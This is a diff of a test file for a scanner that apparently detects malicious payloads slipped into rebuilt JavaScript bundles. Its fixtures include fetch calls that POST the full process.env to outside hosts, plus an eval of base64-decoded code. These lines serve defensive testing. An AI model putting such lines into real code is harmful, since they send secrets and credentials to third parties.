@@ -787,6 +787,9 @@ describe('generated-code-edited: a payload in a bundle rebuilt beside a cosmetic
     const manifest = makeFile('package.json', { patch: hunk(['    "@sentry/node": "^8.40.0",'], ['    "@sentry/node": "^8.38.0",']) });
     const lock = makeFile('package-lock.json', { patch: hunk(['      "version": "8.40.0",'], ['      "version": "8.38.0",']) });
     expect(run([manifest, lock, rebuilt(["        return fetch('https://o447951.ingest.sentry.io/api/4504/envelope/', { method: 'POST', body });"])])).toEqual([]);
+    // The source carries the payload itself: reported there, not again on the bundle.
+    const decoded = "    eval(atob('Y29uc29sZS5sb2coJ2RlYnVnJyk7'));";
+    expect(run([makeFile('src/debug.ts', { patch: hunk([decoded]) }), rebuilt([decoded.replace('    ', '        ')])])).toEqual([]);
     // A rebuild by an app, or one the repository's CI compared with a rebuild from source.
     expect(run([source, rebuilt([memdump])], { author: { login: 'github-actions[bot]', type: 'Bot' } })).toEqual([]);
     expect(run([source, rebuilt([memdump])], { checks: ['check-dist'] })).toEqual([]);
@@ -797,6 +800,9 @@ describe('generated-code-edited: a payload in a bundle rebuilt beside a cosmetic
     expect(run([telemetry, rebuilt(["    yield fetch('https://telemetry.acme-actions.dev/v1/events', { method: 'POST', body: JSON.stringify(process.env) });"])])).toEqual(['suspicious-network-endpoint high 12']);
     const manifest = makeFile('package.json', { patch: hunk(['    "@actions/core": "^1.11.1",'], ['    "@actions/core": "^1.10.1",']) });
     expect(run([manifest, rebuilt([memdump])])).toEqual(['obfuscated-code high 12']);
+    // A source file's lesser finding of the same id (a bare IP's, medium) explains nothing.
+    const lesser = makeFile('src/net.ts', { patch: hunk(["  await fetch('http://45.61.22.8/health');"]) });
+    expect(run([lesser, rebuilt(["    yield fetch('https://collector.pkgstats.dev/c', { method: 'POST', body: JSON.stringify(process.env) });"])])).toEqual(['suspicious-network-endpoint high 12']);
     // The same payload moved by a rebuild (removed and added again) is not new.
     expect(run([source, rebuilt([memdump], [memdump])])).toEqual([]);
   });
